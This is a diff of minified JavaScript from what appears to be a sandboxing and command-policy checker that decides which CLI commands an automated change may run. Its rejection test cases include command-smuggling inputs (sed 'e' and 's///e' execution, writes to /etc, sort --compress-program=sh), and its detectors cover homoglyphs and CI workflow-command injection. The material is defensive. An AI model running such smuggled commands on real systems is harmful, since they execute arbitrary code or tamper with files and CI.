+C= W="},operands:"path path",match:["diff -ru a b"],not_match:["diff --force a b","diff a"]},patch:{risk:"write",flags:{
+count:"p= F= strip= fuzz=",path:"i= o= input= output=",text:"N R l s u dry-run forward reverse silent quiet"},match:["pa\
+tch -p1 -i fix.diff"],not_match:["patch --force -p1","patch -f -p1","patch -e -i x","patch -g1"]},sed:{flags:{text:"E n \
+r s z quiet silent regexp-extended null-data",sed:"e= expression=",count:"l="},operands:"sed path*",first_operand_by:["-\
+e","--expression"],match:["sed -n 1,5p notes.md","sed -n -e 1,5p -e 's/a/b/' a"],not_match:["sed -n '1e id' notes.md","s\
+ed 's/a/b/e' x","sed 'w /etc/x' y","sed -i p x"]},tee:{risk:"write",flags:{text:"a append"},match:["tee out.txt"],not_match:[
+"tee --force x"]},tr:{flags:{text:"C c d s t complement delete squeeze-repeats truncate-set1"},operands:"text text?",match:[
+"tr a-z A-Z","tr / _"],not_match:["tr --force a b"]}},both:{grep:{flags:{text:"E F H R h i l n r L P a c o q s v w x cou\
+nt ignore-case invert-match files-with-matches line-number only-matching quiet recursive word-regexp",pattern:"e= regexp\
+= include= exclude= exclude-dir=",path:"f=",count:"m= A= B= C= max-count=",choice:"color?=auto|always|never"},operands:"\
+pattern input...",first_operand_by:["-e","-f","--regexp"],last_operand_by:["-r","-R","--recursive"],default_operand:".",
+curated:{flags:{text:"E F H R h i l n r",pattern:"e=",path:"f=",count:"m="}},match:["grep -rn TODO src","grep -- -x note\
+s.md","grep -f - notes.md"],not_match:["grep","grep --force x a","grep -e a","grep x","grep x -"]},head:{...rm,match:["h\
+ead -c5 notes.md"],not_match:["head","head -n x notes.md","head -"]},sort:{flags:{text:"n r u b c d f g h i s V z t= k= \
+field-separator= key= numeric-sort reverse unique human-numeric-sort version-sort ignore-case stable check"},operands:"i\
+nput...",curated:{flags:{text:"n r u"}},match:["sort -nr notes.md"],not_match:["sort -o out notes.md","sort","sort -","s\
+ort --compress-program=sh a"]},tail:{...rm,match:["tail -n 3 notes.md"],not_match:["tail","tail -f notes.md","tail -"]},
+uniq:{flags:{text:"c d u i count repeated unique ignore-case",count:"f= s= w="},operands:"input",curated:{flags:{text:"c\
+ d u"}},match:["uniq -c notes.md"],not_match:["uniq notes.md out.txt","uniq","uniq -"]},wc:{flags:{text:"c l w m L bytes\
+ chars lines words max-line-length"},operands:"input...",curated:{flags:{text:"c l w"}},match:["wc -cl notes.md"],not_match:[
+"wc --files0-from=x","wc -l","wc -"]}}},q$=qe(["off","auto","require"]),W$=mt({memory_bytes:ot().positive().nullable().describe(
+"Null if unlimited."),processes:ot().positive(),processes_counted_for:qe(["command","user"]),open_files:ot().positive(),
+file_bytes:ot().positive(),written_bytes:ot().positive()}),V$=mt({name:me(),held:an(),required:an()}),Y$=mt({from:me(),reason:me()}),
+X$=mt({level:qe(sD),description:me(),requested:q$.exactOptional(),launcher:me().exactOptional().describe("How the gate i\
+s allowed to create namespaces."),starter:qe(["slot","launcher"]).exactOptional().describe("What prepares the namespaces\
+ before a command starts: a supervisor (slot). Reports of earlier versions can have a shell for each command (launcher)."),
+limits:W$.exactOptional().describe("The limits of each command, as the kernel enforces them."),probes:Ae(V$).exactOptional().
+describe("The sandbox self-test: what a program that is started like the commands could not do."),downgrades:Ae(Y$).exactOptional().
+describe("Stronger containment that this machine does not support, and why."),untrusted:Ms(!0).exactOptional().describe(
+"The isolation and all outcomes were reported by a runner that the change controls.")});function im(t){return kl(Sd,t)}function Tz(t){
+return core._isoDate(ZodISODate,t)}function Iz(t){return core._isoTime(ZodISOTime,t)}function $z(t){return core._isoDuration(
+ZodISODuration,t)}const om=mt({head:me(),tail:me(),bytes:ot().nonnegative(),truncated:an()}),Q$=mt({created:Ae(me()),changed:Ae(
+me()),deleted:Ae(me()),totals:mt({created:ot().nonnegative(),changed:ot().nonnegative(),deleted:ot().nonnegative()}).exactOptional().
+describe("The number of paths of each kind, if not all are listed."),complete:Ms(!1).exactOptional().describe("The lists\
+ are incomplete; absent if they contain everything.")}),eR=mt({peak_memory_bytes:ot().nonnegative().exactOptional(),cpu_ms:ot().
+nonnegative().exactOptional()}),tR=qe(["passed","failed","timed_out","blocked","skipped","crashed","not_runnable","error"]),
+nR=qe(["memory_bytes","processes","written_bytes"]),sR=qe(["memory","processes","written","file_size","open_files","netw\
+ork","package_manager","home_cache","container_engine","machine_path","rename","read_only","privileges","nested_sandbox",
+"terminal"]),rR=mt({cause:sR,counted:Ms(!0).exactOptional().describe("The kernel enforced the limit, or the machine has \
+what is missing; otherwise the output of the command only suggests it."),limit:ot().nonnegative().exactOptional().describe(
+"The limit, in its own unit."),detail:me().exactOptional().describe("The path that is missing."),key:me().exactOptional().
+describe("The key of the policy that changes it.")}),iR=mt({status:tR,exit_code:ot().nullable(),signal:me().nullable(),started_at:im(),
+duration_ms:ot().nonnegative(),reason:me().exactOptional(),stdout:om,stderr:om,side_effects:Q$.exactOptional().describe(
+"What the command wrote to its private copy of the checkout, which is discarded."),checkout_modified:Ae(me()).exactOptional().
+describe("Files of the checkout that differ from the audited ones after the command."),checkout_changed:Ae(me()).exactOptional().
+describe("Files of the checkout that something other than the command changed meanwhile."),left_out:Ae(me()).exactOptional().
+describe("Files of the checkout that the failed command mentions and did not see, because they are not in the commit."),
+root:me().exactOptional().describe("The root of the checkout as the command saw it; only if it did not pass and its outp\
+ut names it."),limits_hit:Ae(nR).exactOptional().describe("Limits that the kernel enforced on the command; absent if non\
+e is known."),causes:Ae(rR).exactOptional().describe("What containment did that explains why the command failed, the mos\
+t certain first."),resources:eR.exactOptional().describe("Usage of the command and all of its descendants, if the machin\
+e reports it."),reused:Ms(!0).exactOptional().describe("The result of the same Plan in another gene; it ran once.")}),oR=qe(
+["pass","warn","fail","error","needs_approval"]),Rz=qe(["done","agent","human","undecided"]),Nz=qe(["allow","warn","bloc\
+k"]),Bc=qe(["safe","write","dangerous"]),Fz=qe(nD),Lz=mt({user:me(),at:im(),pull_request:ot().positive().exactOptional().
+describe("The pull request of the review; several can be in one merge group.")}),Pz=qe(["pull_request","merge_group","pu\
+sh","workflow_dispatch","range","worktree","index"]),aR=qe(["darwin","linux","win32"]),cR=256,am=ot().min(1).max(cR),uR=mt(
+{index:am,of:am}),jz=uR.extend({genes:ot().nonnegative().describe("Number of genes in the shard."),verdict:oR.describe("\
+The verdict about these genes alone.")}),Mz=mt({contained:an().describe("False if this machine has no namespaces: the li\
+nes could reach all that the gate can."),isolation:X$,lines:Ae(mt({command:me(),outcome:iR})),written:Ae(me()).describe(
+"Files and directories that are new in the checkout, sorted; a limited number.")}),lR=["network_touching","archive_extra\
+ction_overwrite","archive_creation_overwrite","env_secrets","recursive_deletion","broad_permission_target","writes_files"],
+cm=qe(lR),Ei=me().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the name of a program"),fc=me().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,
+"expected a relative path without .."),hc=me().regex(/^-\S*$/,"expected a flag, such as -n or --name"),pc=Ae(hc).readonly(),
+dR=Wt({flag:me().regex(/^--?[A-Za-z0-9][\w.:-]*$/,"expected a flag such as --name").describe("As it is written, with its\
+ dashes."),value:qe(["none","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),
+Gz=kn(me().min(1),Ae(dR).min(1)),um={match:Ae(me()).min(1).describe("Commands that the family must accept."),not_match:Ae(
+me()).min(1).describe("Commands that the family must reject.")},mc=qe(wa),BR=Object.keys(ds),lm="names without dashes, s\
+eparated by blanks",gc={flags:So(qe([...BR,...wa]),me()).optional().describe(`Flags by the kind of their values, or by w\
+hy they are refused: ${lm}. A comma separates spellings, a mark behind a name is its value: \`=\` required, \`?\` optional, \
+\`?=\` attached, \`*\` several, \`+\` all following words, \`=a|b\` one of these; \`~\` stands for any end.`),operands:me().
+refine(t=>sa(t)!==void 0,{error:"expected kinds such as path; a kind with ? * or ... only at the end"}).optional().describe(
+"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`.")},Cc={
+...gc,risk:Bc.optional().describe("Default: safe."),warnings:Ae(cm).readonly().optional(),network_touching:an().optional()},
+dm={...Cc,leading_flags:pc.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:pc.
+optional().describe("With one of these flags, there is no first operand."),last_operand_by:pc.optional().describe("With \
+one of these flags, the last operand may be absent."),default_operand:me().optional().describe("The path that the progra\
+m uses by default."),flag_warnings:kn(me(),cm).optional(),dangerous_targets:Ae(me()).readonly().optional(),forbidden_prefixes:Ae(
+me()).readonly().optional(),forms:kn(me(),Wt(Cc)).refine(t=>Object.keys(t).every(e=>lf(e)!==void 0),{error:"expected wor\
+ds and placeholders such as {path}; {source...} only at the end"}).optional().describe("The only accepted words after th\
+e program: literal, or {kind}, {count:1-10}, and {kind...} at the end; with what differs from the program."),subcommands:kn(
+me(),Wt(Cc)).optional().describe("The only accepted first words, with what differs from the program.")},fR=Wt({...dm,only:qe(
+["curated","workspace"]).optional().describe("The only profile that accepts the program. Default: both."),curated:Wt(dm).
+optional().describe("What replaces the keys above in the `curated` profile."),maturity:qe(["structured","direct_only","e\
+xperimental_only","blocked"]).optional(),platforms:Ae(aR).optional(),...um}),hR=["file","package","program","node","comm\
+and","script","own-script","tool","script-or-tool","script-tool-or-file","command-texts","npm-scripts"],yc={...gc,operands:gc.
+operands.refine(t=>t===void 0||t.endsWith("*"),{error:"expected a last kind with *: the default profile does not count o\
+perands"}),refused:So(mc,me()).optional().describe(`First operands by why they are refused: ${lm}; \`~\` stands for any en\
+d.`),starts:qe(hR).optional().describe("What the first operand is, if the program runs it."),unless:So(mc,me()).optional().
+describe("Refused for a reason, unless one of these flags is set."),alone:mc.optional().describe("What it does without a\
+n operand or subcommand."),any_package:an().optional(),skips:ot().nonnegative().optional(),variables:Ae(me()).optional()},
+pR=Wt({...yc,behind:Wt({flags:yc.flags}).optional().describe("The flags that may stand behind `--`; default: operands.")}),
+mR=Wt({...yc,programs:Ae(Ei).optional().describe("The words that start the program; default: the name of the family."),risk:Bc.
+default("safe"),completes:an().default(!1).describe("Flags may be written by their beginning, as for getopt and argparse\
+."),subcommands:kn(me().regex(/^\S+(?: \S+)*$/),pR).default({}).describe("By name; a comma separates spellings, a blank \
+the words of a nested subcommand."),extensions:me().optional().describe("Extensions of the files that it may run, beside\
+s files without one."),dependency_tools:Ae(Ei).default([]),started_programs:Ae(Ei).default([]),directory_flags:Ae(hc).default(
+[]),selecting_flags:Ae(hc).default([]),settings:Ae(fc).default([]).describe("Files and folders, from the working directo\
+ry up, that can give a command another meaning: a change must not edit them."),build_files:Ae(fc).default([]).describe("\
+Files of the commit that decide what the program does; `*` matches in a name."),dependencies:Ae(Wt({path:fc,at:qe(["root",
+"anywhere","home"]),variable:me().regex(/^[A-Z][A-Z0-9_]*$/).optional()})).default([]).describe("Where its dependencies \
+are, outside of the commit."),environment:kn(me().regex(/^[A-Za-z_]\w*$/),me()).default({}).describe("Variables that are\
+ set for the program."),...um}),gR=Wt({name:Ei,category:me().min(1).optional().describe("The pack, for `disabled_packs`;\
+ default: the pack of the built-in family of the same name, or `other`."),notes:me().optional(),evolver:mR.optional().describe(
+"For the default profile, which accepts the program if `programs` names it."),sandbox:fR.optional().describe("For the `c\
+urated` and `workspace` profiles. Default: neither accepts the program.")}),CR=[{programs:["rollup"],flags:{text:`
         amd.~= assetFileNames= chunkFileNames= compact dynamicImportInCjs entryFileNames= esModule
         exports= extend external,e= externalImportAttributes externalLiveBindings failAfterWarnings
         filterLogs= forceExit format,f= freeze generatedCode= generatedCode.~ globals,g= input,i=
@@ -3591,7 +5248,7 @@ er-ends":"watch?"},match:["npx tsup src/x.ts --format cjs,esm --dts"]},{programs
         entry= entry-~= module-rules-loader= module-rules-use= resolve-loader-~= module-rules-parser=
       `,preload:"require,r=",output:"output-path,o= output-filename= json,j?","never-ends":"watch,w watch-~="},refused:{
 "never-ends":"serve server s watch w","only-prints":"help h info i version v configtest t","uses-network":"init create n\
-ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],W0=[{programs:["tsc","\
+ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],yR=[{programs:["tsc","\
 tsgo","vue-tsc"],flags:{text:`
         allowArbitraryExtensions allowImportingTsExtensions allowJs allowSyntheticDefaultImports
         allowUmdGlobalAccess allowUnreachableCode allowUnusedLabels alwaysStrict
@@ -3651,7 +5308,7 @@ iti","sucrase-node","swc-node"],starts:"node",flags:{"outside-code":"eval,e= pri
 p-initial-build
       `,path:"root= source-root=",config:"config-file=",code:"plugins= presets=",output:"out-file,o= out-dir,d=","tool-w\
 rites":"copy-files,D delete-dir-on-start","reads-stdin":"filename,f=","never-ends":"watch,w"},match:["npx babel src --no\
--comments"],not_match:["npx babel src -w"]}],q0=[{programs:["eslint"],flags:{text:`
+-comments"],not_match:["npx babel src -w"]}],wR=[{programs:["eslint"],flags:{text:`
         cache cache-strategy= color concurrency= config-lookup debug env= eslintrc
         error-on-unmatched-pattern exit-on-fatal-error ext* fix-dry-run fix-type= flag* global*
         ignore ignore-pattern* inline-config max-warnings= pass-on-unpruned-suppressions
@@ -3727,7 +5384,7 @@ tes-files":"init"},match:['npx cspell --no-progress "src/**"']},{programs:["ajv"
         unicode-regexp messages inline-refs= code-~= allow-union-types allow-matching-properties
         comment loop-required= loop-enum= own-properties valid invalid
       `,tests:"d* m* r* s=",preload:"c=",output:"o?"},refused:{"only-prints":"help"},match:['npx ajv validate -s schema.\
-json -d "data/*.json"']}],V0=[{programs:["c8"],starts:"command",flags:{text:`
+json -d "data/*.json"']}],bR=[{programs:["c8"],starts:"command",flags:{text:`
         all include,n= exclude,x= extension,e= exclude-after-remap,a skip-full
         check-coverage branches= functions= lines= statements= per-file 100 exclude-node-modules
         clean wrapper-length= omit-relative allowExternal merge-async experimental-monocart
@@ -3741,7 +5398,7 @@ json -d "data/*.json"']}],V0=[{programs:["c8"],starts:"command",flags:{text:`
         use-spawn-wrap hook-require hook-run-in-context hook-run-in-this-context clean
       `,path:"cwd= temp-dir,t= cache-dir=",config:"nycrc-path=",code:"reporter,r= parser-plugins=",preload:"require,i=",
 output:"report-dir="},refused:{"only-prints":"report check-coverage","tool-writes":"instrument merge"},match:["npx nyc -\
--reporter=lcov mocha","npx nyc --reporter text npm test"]}],Y0=[{programs:["cross-env"],starts:"command",flags:{},match:[
+-reporter=lcov mocha","npx nyc --reporter text npm test"]}],_R=[{programs:["cross-env"],starts:"command",flags:{},match:[
 "npx cross-env PORT=3000 NODE_OPTIONS=--experimental-vm-modules jest"]},{programs:["concurrently","conc"],starts:"comman\
 d-texts",flags:{text:`
         max-processes,m= names,n= name-separator= success,s= raw,r color hide= group,g timings
@@ -3764,7 +5421,7 @@ connect dev serve server watch"},match:["npx grunt lint test --gruntfile Gruntfi
 ll","npm-run-all2","run-s","run-p"],starts:"npm-scripts",flags:{text:`
         aggregate-output continue-on-error,c max-parallel= print-label,l print-name,n parallel,p
         race,r sequential,s serial silent
-      `},match:['npx run-s "lint:*" "test:** -- --silent"',"npx run-p lint:a lint:b -l"]}],Ef=[{programs:["vitest"],operands:"\
+      `},match:['npx run-s "lint:*" "test:** -- --silent"',"npx run-p lint:a lint:b -l"]}],Bm=[{programs:["vitest"],operands:"\
 text*",flags:{text:`
         allowOnly bail= bench browser? browser.~= cache changed? clearScreen
         color compare= coverage coverage.~= diff.~= disableConsoleIntercept exclude= expandSnapshotDiff
@@ -3857,9 +5514,27 @@ cwd,C=",preload:"require,r="},match:["npx uvu test"]},{programs:["jasmine"],oper
 st filter= filter-path= parallel= random= seed= stop-on-failure= verbose",config:"config=",code:"helper= reporter=",preload:"\
 require=","only-prints":"enumerate list-not-applicable version,v"},refused:{"writes-files":"init examples","only-prints":"\
 help version enumerate"},match:["npx jasmine --random=true"]},{programs:["tsd"],flags:{text:"files,f= show-diff typings,\
-t="},match:["npx tsd"]}],X0=null,Q0=new Set(["node","cargo","go","bun","deno","dotnet","swift","mvn","gradle"]);function gz(t){
-const e=new Set([...X0,...Ef.flatMap(({programs:n})=>n)]);return t.some((n,s)=>e.has(n)?!0:Q0.has(n)&&/^(?:--)?test$/.test(
-t[s+1]??""))}const kf=Cf({"outside-code":`
+t="},match:["npx tsd"]}],ER=null,kR=new Set(["node","cargo","go","bun","deno","dotnet","swift","mvn","gradle"]);function Hz(t){
+const e=new Set([...ER,...Bm.flatMap(({programs:n})=>n)]);return t.some((n,s)=>e.has(n)?!0:kR.has(n)&&/^(?:--)?test$/.test(
+t[s+1]??""))}const Jn={flags:{config:"config,c= config-file= rcfile= resolve-plugins-relative-to=",code:`
+      custom-syntax= env= environment= extends= format= formatter= global-setup= global-teardown= hook~=
+      import= load= load-plugins= loader= parser= plugin~= preset~= reporter,reporters= require,r= resolver= rulesdir=
+      runner= setup~= test-environment= test-runner= transform= use= cmd= command= eval= init-hook=
+    `,"outside-code":"exec,execute= on-change= on-failure= on-success= shell= inspect? inspect-brk? inspect-wait?",node:"\
+exec-argv= node-arg~= node-flag~= node-option~=",weakens:"env-file= exit-zero no-fail warn-only","reads-stdin":"stdin","\
+uses-network":"publish upload","tool-writes":"apply apply-unsafe fix? in-place overwrite update update-snapshot,update-s\
+napshots write","skips-tests":"allow-no-tests pass-with-no-tests","never-ends":"serve ui watch watch-all"},refused:{"out\
+side-code":"eval","uses-network":"add i install link remove uninstall update upgrade deploy login publish push release u\
+pload","never-ends":"console dev develop preview repl serve server shell start studio watch","tool-writes":"generate mig\
+rate","writes-files":"clean create eject init new"},unknown:!0},{refused:fm}=Jn,vR=[{programs:["next"],alone:"never-ends",
+ends_with:"build info lint telemetry typegen"},{programs:["parcel","vitepress"],alone:"never-ends",ends_with:"build"},{programs:[
+"storybook"],alone:"never-ends",ends_with:"build doctor"},{programs:["testem"],alone:"never-ends",ends_with:"ci launcher\
+s"},{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...fm,"never-ends":`${fm["never-\
+ends"]} s`}},{programs:["microbundle","ncc","postcss","rolldown","sass","tailwindcss","tsdown"],flags:{...Jn.flags,"neve\
+r-ends":`${Jn.flags["never-ends"]} w`}}],DR=Ht(Jn),xR=Ht({...Jn,flags:{...Jn.flags,code:"custom-syntax= env= environment\
+= formatter= parser= reporter= resolver= rulesdir= runner= use= cmd= command= eval= init-hook=",module:"import= load= lo\
+ad-plugins= loader= plugin~="}}),OR=new Map(vR.flatMap(t=>{const e=Ht({...Jn,...t});return t.programs.map(n=>[n,e])}));function AR(t){
+return OR.get(t)??DR}const hm=hf({"outside-code":`
     bnr bun bunx coffee corepack cross-env-shell deno dotenv dotenv-cli dotenvx env-cmd execa foreman glob
     husky jake lage lerna lint-staged nf node npm npm-watch nps npx nx onchange
     open-cli opener per-env pm2 pnpm pnpx run-script-os run-z rush server-test shx
@@ -3873,1780 +5548,108 @@ t[s+1]??""))}const kf=Cf({"outside-code":`
     npm-publish patch-package prebuild-install release-it semantic-release surge tiged vercel wrangler
   `,"writes-files":`
     copyfiles cpx cpy cpy-cli del del-cli drizzle-kit knex mkdirp ncp rimraf typeorm
-  `}),vf=[...Ef,...V0,...q0,...W0,...K0,...Y0],Us=new Map(vf.flatMap(t=>{const e=cn(t);return t.programs.map(n=>[n,e])}));
-function ia(t,e){const n=Us.has(t)?t:aa(t);return e?.get(n)??Us.get(n)}function ex(t,e){const n=vf.find(({programs:s})=>s.
-includes(t));return n&&cn(n,[e])}function oa(t){return kf.get(t)??kf.get(aa(t))}function qr(t){return Us.has(t)||Us.has(
-aa(t))||oa(t)!==void 0}function aa(t){return t.replace(/^@[^/]*\//,"")}function jn(t,e){if(e==="")return t;const n=Df.get(
-t)??new Map;Df.set(t,n);const s=n.get(e)??tx(t,e);return n.set(e,s),s}const Df=new WeakMap;function tx(t,e){const n=`${e}\
-/`,s=a=>a===""?e:n+a,r=a=>({...a,path:a.path===e?"":a.path.slice(n.length)}),{original:i,isPending:o}=t;return{label:t.label,
-...i&&{original:jn(i,e)},...o&&{isPending:a=>o(s(a))},stat:a=>{const c=t.stat(s(a));return c&&r(c)},readlink:a=>t.readlink(
-s(a)),list:a=>t.list(s(a)).map(r),files:()=>[...t.files()].filter(({path:a})=>a.startsWith(n)).map(r),read:(a,c)=>t.read(
-s(a),c)}}const xf={"unquoted-glob":"warning","environment-assignment":"warning","tool-writes":"warning","skips-tests":"w\
-arning",weakens:"warning","tool-runs-file":"warning","only-prints":"warning","checks-syntax-only":"warning","absolute-pa\
-th":"warning","tool-unknown":"warning","target-not-judged":"notice","dependency-not-compared":"warning","not-installed":"\
-notice","build-files-unread":"notice","target-changed":"notice","script-unreadable":"warning","target-writes":"warning",
-"npm-script-missing":"warning","npm-script-text":"warning","workspaces-changed":"warning"};function be(t,e,n,s=nx(t)){return{
-rule:t,args:n,span:e,severity:s}}function nx(t){return t in xf?xf[t]:"error"}function Dn(t,e){return t.rule===e}function Of(t){
-return t.split(/\s+/).flatMap(([e="",...n])=>n.map(s=>[s,e]))}const Af=new Map(Of(`a\u0430\u0251\u03B1 b\u042C\u0185 c\u0441\u03F2\u217D d\u0501\u0257 e\u0435\u04BD f\u0192 g\u0261\u0581 h\u04BB\u0570 i\u0456\u0131\u03B9\
-\u0269 j\u0458\u03F3 k\u03BA\u043A l\u04CF\u01C0 m\u043C n\u043F\u0578\u03B7 o\u043E\u03BF\u0585 p\u0440\u03C1 q\u051B\u0566 r\u0433 s\u0455 t\u0442\u03C4
-   u\u057D\u03C5 v\u03BD\u0475 w\u051D\u03C9 x\u0445\u03C7 y\u0443\u03B3 z\u1D22 A\u0410\u0391 B\u0412\u0392 C\u0421\u03F9 E\u0415\u0395 H\u041D\u0397 I\u0406\u0399\u04C0 J\u0408 K\u041A\u039A M\u041C\u039C N\u039D O\u041E\u039F P\u0420\u03A1 S\u0405 T\u0422\u03A4 X\u0425\u03A7 Y\u04AE\u03A5
-   Z\u0396\u13C3 A\u13AA B\u13F4 C\u13DF D\u13A0 E\u13AC G\u050C\u13C0 H\u13BB J\u13AB K\u13E6 L\u13DE M\u13B7 P\u13E2 R\u13A1 S\u13DA T\u13A2 V\u13D9\u0474 W\u13B3\u051C Y\u13A9 Q\u051A`));
-function Sf(t){return[...t].map(e=>Af.get(e)??e).join("")}const sx=new Map([...[...Af].filter(([,t])=>t===t.toLowerCase()),
-...Of("a\xAA b\u044C c\u1D04 e\u0454\u212F\u212E\u025B g\u01E5\u018D i\u04CF k\u1D0B l\u217C| m\u1D0D n\u057C o\u03C3 r\u1D26 s\uA731 t\u1D1B u\u0446\u028B v\u1D20 w\u0448\u0461 y\u04AF\u028F -\u2010\u2011\u2012\u2013\u2014\u2015\u2212\u2043\u02D7\uFE58 .\u2024\u3002 /\u2044\u2215")]);
-function Cz(t){return[...t.normalize("NFKD").toLowerCase().normalize("NFKD").replace(/[\p{Mark}\p{Default_Ignorable_Code_Point}\p{Control}\p{Format}]/gu,
-"")].map(n=>sx.get(n)??n).join("")}const rx=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;function Tf(t){
-if(t>=32&&t<127||t===9)return"visible";if(t===0)return"nul-character";if(t===10||t===13)return"line-break";if(t<160||t>=
-55296&&t<=57343)return"control-character";const e=String.fromCodePoint(t);return rx.test(e)?"invisible-character":"visib\
-le"}function ca(t){return`U+${t.toString(16).toUpperCase().padStart(4,"0")}`}function Tt(t,e=120){const n=t.length>e?`${t.
-slice(0,e)}\u2026`:t;let s="";for(const r of n){const i=r.codePointAt(0)??0,o=i!==9&&Tf(i)==="visible";s+=o?r:`<${ca(i)}\
->`}return s}function Mn(t,e,n,s){let r=e;for(const i of t)ix(i,r,n,s),r+=i.length}function ix(t,e,n,s){const r=t.codePointAt(
-0)??0,i={start:e,end:e+t.length},o=ca(r),a=Tf(r);if(a==="line-break"?s.add(a,i,{character:o,quoted:n}):a!=="visible"&&s.
-add(a,i,{character:o}),a!=="visible"||r<=126)return;const c=t.normalize("NFKC");c!==t.normalize("NFC")||/[\0-\x7f]/.test(
-c)?s.add("look-alike-letters",i,{word:t,looks_like:c,characters:[o]}):n||s.add("non-ascii-unquoted",i,{character:o,shown:t})}
-const ox=/\p{L}+/gu;function ax(t,e,n,s){if(/^[\x00-\x7f]*$/.test(t)||!n&&/\s/.test(t))return;const r=n?cx(t):ux(t);if(r===
-void 0)return;const i=[...new Set(t)].filter(o=>o>"\x7F");s.add("look-alike-letters",{start:e.start,end:e.end},{word:Tt(
-t),looks_like:Tt(r),characters:i.slice(0,10).map(o=>ca(o.codePointAt(0)??0))})}function cx(t){const e=t.normalize("NFKD").
-replace(/\p{M}/gu,""),n=Sf(e);return/^[\x20-\x7e]+$/.test(n)?n:void 0}function ux(t){let e=!1;const n=t.replace(ox,s=>{const r=Sf(
-s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?n:void 0}const lx=100,dx=1e3;function Bx(t,e){let n=0,s=0;for(let r=0;r<=
-t.length;r+=1){const i=t.charAt(r);if(i===" "||i==="	")continue;const o=r-s;if(o>1&&(n+=o-1),o>=lx||n>=dx){const a=Math.
-max(o,n);e.add("blank-padding",{start:s,end:r},{blanks:a});return}s=r+1}}const fx=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
-hx=/<!--|```/;function ua(t,e,n){const s=({index:o,0:a})=>n??{start:o,end:o+a.length},r=fx.exec(t);r&&e.add("workflow-co\
-mmand",s(r),{written:Tt(r[0])});const i=hx.exec(t);i&&e.add("markup-injection",s(i),{written:i[0]})}function Vr(t){const[
-e]=t.parts;return t.parts.length===1&&e?e.text:t.parts.map(n=>n.text).join("")}function px(t){const[e]=t.parts;return t.
-parts.length===1&&e&&!e.quoted?e.text:void 0}class If{#e=[];add(e,n,s){this.#e.push(be(e,n,s))}inOrder(){const e=({severity:n})=>n===
-"error"?0:1;return this.#e.sort((n,s)=>n.span.start-s.span.start||e(n)-e(s))}}function $f(t){const e=new Set;return t.filter(
-({rule:n,severity:s})=>{if(s!=="error")return!0;const r=!e.has(n);return e.add(n),r})}const Js=/^[\w.-]{0,64}$/,Rf=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
-mx=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,gx=/^\d{1,9}$/,Gn=/^(?:|[01]|true|false|yes|no|on|off)$/i,Nf=new Map(
-[["NODE_ENV",Js],["CI",Js],["FORCE_COLOR",Js],["NO_COLOR",Js],["DEBUG",/^[\w.:*,@/-]{0,256}$/],["TZ",/^[A-Za-z](?:[\w+-]|\/(?=[A-Za-z])){0,63}$/],
-["LANG",Rf],["LC_ALL",Rf],["NODE_NO_WARNINGS",Gn],["PYTHONDONTWRITEBYTECODE",Gn],["PYTHONUNBUFFERED",Gn],["PYTHONHASHSEE\
-D",/^(?:random|\d{1,9})$/],["RUST_BACKTRACE",/^(?:[01]|full)$/],["RUSTFLAGS",/^-D ?warnings$/],["RUSTDOCFLAGS",/^-D ?warnings$/],
-["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",mx],["TS_NODE_TRANSPILE_ONLY",Gn],
-["TS_NODE_FILES",Gn],["TS_NODE_SKIP_PROJECT",Gn]]),Cx=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
-[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Js]],Ff="NODE_OPTIONS",yx=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
-function Lf(t){return t.split(" ").every(e=>yx.test(e.replaceAll("_","-")))}function la(t,e){if(t===Ff)return Lf(e);const n=Nf.
-get(t);return n!==void 0?n.test(e):Pf(t)?Cx.some(([r,i])=>r.test(t)&&i.test(e))||Gn.test(e)||gx.test(e):!1}const wx=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
-function Pf(t){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(t)?!jf(t):wx.test(t)}function bx(t){return t===Ff||Nf.has(t)||
-Pf(t)}const _x=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function Ex(t,e){const n=[],s=[];let r=0;for(const i of t){const[o]=i.parts,
-a=o&&!o.quoted?_x.exec(o.text):null;if(!a)break;r+=1;const[c,u="",l]=a,d=Vr(i).slice(c.length),B={start:i.start,end:i.end};
-if(!l&&la(u,d))n.push({name:u,value:d,span:B}),e.add("environment-assignment",B,{name:u,value:Tt(d)});else{const f=!l&&bx(
